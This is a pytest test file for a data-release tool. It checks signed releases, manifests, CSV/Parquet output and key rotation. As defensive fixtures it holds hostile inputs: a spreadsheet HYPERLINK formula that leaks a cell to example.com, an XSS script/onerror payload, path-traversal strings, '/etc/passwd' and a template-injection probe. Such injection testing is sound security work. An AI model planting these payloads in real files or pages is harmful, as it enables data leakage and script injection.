"""A release is complete in itself: who has nothing but its directory can check and use it."""

import base64
import csv
import json
import re
import shutil
import subprocess
import sys
from datetime import date
from importlib.resources import files
from pathlib import Path

import duckdb
import jsonschema
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest
from a_store import ADS, DAY, a_hit, a_night, a_policy, visitors
from typer.testing import CliRunner

from weir.pipelines import share as share_module
from weir.pipelines.cli import app
from weir.pipelines.disclose import disclose
from weir.pipelines.share import Shared, share
from weir.pipelines.verify import verify
from weir.schemas.release import Release, release_schema
from weir.transforms.keys import create_keys, public_key_path
from weir.transforms.sheet import plain

KEPT = Path(__file__).parents[1] / "data" / "release-1"
FORMULA = "=HYPERLINK(\"https://example.com/\"&A1;'x')"
HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
AWAY = "../../../../tmp/away"
LONG = "campaign" + "=1" * 500_000
BAD = (FORMULA, HTML, AWAY, "@SUM(A1)", "-1+1", "\t=1", '"=1"', "{{ 7*7 }}")


def shared_with(night) -> Shared:
    return share(
        night.store, night.policy, night.stamp, night.keyring("signing"), "acme-ads", (DAY,),
        software=night.software, today=date(2008, 4, 23),
    )  # fmt: skip


@pytest.fixture(scope="module")
def night(tmp_path_factory):
    """A night whose campaigns have the names that somebody with bad intent gave them."""
    hits = visitors(300, campaign="spring", medium="banner", customer="bookshop")
    for number, name in enumerate(BAD, start=4):
        hits += [
            a_hit(v, campaign=name, medium="mail") for v in range(number * 100, number * 100 + 90)
        ]
    ads = ADS.model_copy(update={"tables": ("campaigns", "traffic")})
    night = a_night(tmp_path_factory.mktemp("release"), hits, policy=a_policy(ads))
    disclose(night)
    return night


@pytest.fixture(scope="module")
def release(night) -> Shared:
    return shared_with(night)


def test_the_manifest_is_as_its_published_schema_says(release):
    schema = json.loads((release.path / "manifest.schema.json").read_bytes())
    manifest = json.loads((release.path / "manifest.json").read_bytes())
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(manifest, schema)
    for changed in ({"recipient": 7}, {"secret": "x"}, {"format": "weir-release/9"}):
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(manifest | changed, schema)


def test_the_published_schema_is_that_of_the_model():
    shipped = (files("weir.schemas") / "release.schema.json").read_text("utf-8")
    assert shipped == release_schema(), "make it anew: make docs"


def test_the_data_package_describes_every_table_as_it_lies_there(release):
    package = json.loads((release.path / "datapackage.json").read_bytes())
    notes = {note.path: note for note in release.release.files}
    assert {r["path"] for r in package["resources"]} == {
        "campaigns.csv", "campaigns.parquet", "traffic.csv", "traffic.parquet",
    }  # fmt: skip
    assert not any("-" in resource["name"] for resource in package["resources"]), (
        "an audit of the store would take it for a person's"
    )
    for resource in package["resources"]:
        note = notes[resource["path"]]
        assert (resource["bytes"], resource["hash"]) == (note.bytes, f"sha256:{note.sha256}")
        if resource["format"] == "csv":
            names = [field["name"] for field in resource["schema"]["fields"]]
            with (release.path / resource["path"]).open(encoding="utf-8-sig", newline="") as lines:
                assert next(csv.reader(lines)) == names


def test_the_csv_has_the_rows_of_the_parquet(release):
    for table in release.release.tables:
        rows = pq.read_table(release.path / table.file).to_pylist()
        with (release.path / table.csv).open(encoding="utf-8-sig", newline="") as lines:
            read = list(csv.DictReader(lines))
        assert len(read) == len(rows) == table.rows
        for cells, row in zip(read, rows, strict=True):
            for name, value in row.items():
                told = "" if value is None else str(value)
                if len(told) < 32_000:
                    assert plain(cells[name]) == told


def test_duckdb_reads_the_csv_with_its_types(release):
    place = str(release.path / "traffic.csv")
    with duckdb.connect() as connection:
        found = connection.sql(f"SELECT date, visitors FROM '{place}' WHERE \"by\" = 'total'")
        assert [str(type_) for type_ in found.types] == ["DATE", "BIGINT"]
        assert found.fetchall()[0][0] == DAY


def test_a_malicious_name_is_only_text_wherever_it_comes(release):
    names = set(pq.read_table(release.path / "campaigns.parquet")["campaign"].to_pylist())
    assert set(BAD) <= names, "the Parquet file has what was in the log"
    cells = (release.path / "campaigns.csv").read_text("utf-8")
    for cell in re.findall(r'"((?:[^"]|"")*)"', cells):
        assert not re.match(r"\s*[=+\-@]", cell.replace('""', '"'))
    page = (release.path / "report.html").read_text("utf-8")
    assert HTML not in page
    assert "<script" not in page
    assert "{{ 7*7 }}" in page, "text of the data is not a template"
    assert {p.name for p in release.path.parent.iterdir()} == {release.path.name}
    assert not [p for p in release.path.rglob("*") if p.is_dir()]
    for name in ("README.md", "dictionary.json", "datapackage.json", "manifest.json"):
        text = (release.path / name).read_text("utf-8")
        assert not any(bad in text for bad in BAD), "what describes the data has no value of it"


def test_what_no_number_means_is_said_to_whoever_gets_one(release):
    campaigns = pq.read_table(release.path / "campaigns.parquet")
    assert campaigns["conversions"].null_count == len(campaigns), "nobody converted: that is a 0"
    tables = json.loads((release.path / "dictionary.json").read_bytes())
    assert tables["campaigns"]["empty"] == "withheld, or 0"
    for name in ("README.md", "report.html"):
        text = (release.path / name).read_text("utf-8")
        assert "withheld, or 0" in text
        assert not re.search(r"(not|never) zero|or (is )?none\b", text), name


def test_a_name_of_a_million_characters_is_cut_where_it_is_only_looked_at(night, monkeypatch):
    whole = share_module._projection

    def longer(*given):
        frame = whole(*given)
        if "campaign" not in frame.column_names:
            return frame
        at = frame.column_names.index("campaign")
        named = pc.replace_substring(frame["campaign"], "spring", LONG)
        return frame.set_column(at, frame.schema.field(at), named)

    monkeypatch.setattr(share_module, "_projection", longer)
    made = shared_with(night).path
    names = pq.read_table(made / "campaigns.parquet")["campaign"].to_pylist()
    assert LONG in names
    with (made / "campaigns.csv").open(encoding="utf-8-sig", newline="") as lines:
        assert max(len(row["campaign"]) for row in csv.DictReader(lines)) == 32_000
    assert (made / "report.html").stat().st_size < 300_000
    assert verify(made).ok
    shutil.rmtree(made)


def test_the_command_in_the_read_me_checks_a_release_without_weir(release, night, tmp_path):
    shutil.copytree(release.path, tmp_path / "got")
    shutil.copy(public_key_path(night.config.at(night.config.keys)), tmp_path)
    (code,) = re.findall(r"```python\n(.*?)```", (release.path / "README.md").read_text(), re.S)

    def check() -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-c", code], cwd=tmp_path / "got", capture_output=True, text=True,
            check=False,
        )  # fmt: skip

    assert check().stdout == f"as it was signed, by key {release.release.key_id}\n"
    (tmp_path / "got" / "more.csv").write_text("x")
    assert "files that nobody signed" in check().stderr
    (tmp_path / "got" / "traffic.csv").write_text("x")
    assert "AssertionError: traffic.csv" in check().stderr
    (tmp_path / "got" / "manifest.json").write_text("{}")
    assert "InvalidSignature" in check().stderr
    shutil.copy(KEPT / "signing.pub.json", tmp_path)
    assert f"signed by key {release.release.key_id}: ask the sender" in check().stderr


# ---- keys that change, formats that change -----------------------------------------------------


def rotated(public: Path, newer: Path, place: Path) -> Path:
    """The public keyset that a sender hands out after it changed keys: the new one, and the old."""
    old, new = json.loads(public.read_bytes()), json.loads(newer.read_bytes())
    place.write_text(json.dumps(new | {"key": new["key"] + old["key"]}))
    return place


def test_a_release_of_the_first_format_is_verified():
    report = verify(KEPT / "release", KEPT / "signing.pub.json")
    assert report.ok
    assert report.release.format == "weir-release/1"


def test_a_key_that_was_replaced_is_told_by_its_id_and_the_new_keyset_still_checks(tmp_path):
    old = KEPT / "signing.pub.json"
    create_keys(tmp_path, "signing")
    new = tmp_path / "signing.pub.json"
    ids = [json.loads(place.read_bytes())["primaryKeyId"] for place in (old, new)]

    told = verify(KEPT / "release", new)
    assert not told.ok
    assert {file.state for file in told.files} == {"unknown"}
    assert f"says key {ids[0]}" in told.verdict
    assert f"has {ids[1]}" in told.verdict

    both = verify(KEPT / "release", rotated(old, new, tmp_path / "both.json"))
    assert both.ok
    assert f"({ids[0]})" in both.verdict
    assert both.to_json()["key_id"] == ids[0]


@pytest.mark.parametrize("wrong", ["release/manifest.json", "release"])
def test_what_is_no_public_key_is_named(wrong):
    got = CliRunner().invoke(app, ["verify", str(KEPT / "release"), "-k", str(KEPT / wrong)])
    assert got.exit_code == 2
    assert f"{KEPT / wrong}: no" in got.output


def test_what_is_wrong_with_a_file_is_said_in_the_last_line(release, tmp_path):
    shutil.copytree(release.path, tmp_path / "got")
    (tmp_path / "got" / ".DS_Store").write_text("x")
    (tmp_path / "got" / "traffic.csv").write_text("x")
    assert verify(tmp_path / "got").lines()[-1] == (
        "NOT as it was signed: traffic.csv (changed), .DS_Store (extra)"
    )


def test_a_changed_manifest_is_not_taken_for_another_key(tmp_path):
    shutil.copytree(KEPT / "release", tmp_path / "release")
    place = tmp_path / "release" / "manifest.json"
    place.write_bytes(place.read_bytes() + b" ")
    report = verify(tmp_path / "release", KEPT / "signing.pub.json")
    assert not report.ok
    assert "do not belong together" in report.verdict


def test_a_forged_key_of_the_same_id_does_not_vouch(tmp_path):
    create_keys(tmp_path, "signing")
    forged = json.loads((tmp_path / "signing.pub.json").read_bytes())
    forged["primaryKeyId"] = forged["key"][0]["keyId"] = 714657561
    (tmp_path / "forged.json").write_text(json.dumps(forged))
    assert not verify(KEPT / "release", tmp_path / "forged.json").ok


def test_the_command_needs_nothing_but_the_release_and_the_key(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    got = CliRunner().invoke(
        app, ["verify", str(KEPT / "release"), "-k", str(KEPT / "signing.pub.json")]
    )
    assert got.exit_code == 0
    assert "key 714657561" in got.output or "(714657561)" in got.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("path", ["../keys/vault.json", "/etc/passwd", "a/b", ".hidden", ""])
def test_a_manifest_cannot_name_a_file_elsewhere(release, path):
    text = json.loads((release.path / "manifest.json").read_bytes())
    text["files"][0]["path"] = path
    with pytest.raises(ValueError, match="pattern"):
        Release.model_validate(text)


def test_a_key_of_another_kind_in_the_signature_is_nobody(tmp_path):
    shutil.copytree(KEPT / "release", tmp_path / "release")
    (tmp_path / "release" / "manifest.sig").write_bytes(base64.b64decode("AAAA"))
    report = verify(tmp_path / "release", KEPT / "signing.pub.json")
    assert (report.ok, report.key_id) == (False, None)


def test_several_releases_are_each_checked_and_one_bad_one_is_enough(tmp_path):
    for name in ("a", "b", "c"):
        shutil.copytree(KEPT / "release", tmp_path / name)
    places = [str(tmp_path / name) for name in ("a", "b", "c")]
    ask = ["verify", *places, "-k", str(KEPT / "signing.pub.json")]
    whole = CliRunner().invoke(app, ask)
    assert (whole.exit_code, whole.output.count("files are as they were signed")) == (0, 3)

    (tmp_path / "b" / "added").write_text("x")
    bad = CliRunner().invoke(app, ask)
    assert (bad.exit_code, bad.output.count("files are as they were signed")) == (1, 2)
    assert "NOT as it was signed: added (extra)" in bad.output
    told = CliRunner().invoke(app, [*ask, "--json"]).stdout.splitlines()
    assert [json.loads(line)["ok"] for line in told] == [True, False, True]

    shutil.rmtree(tmp_path / "a")
    gone = CliRunner().invoke(app, ask)
    assert (gone.exit_code, gone.output.count("files are as they were signed")) == (2, 1)
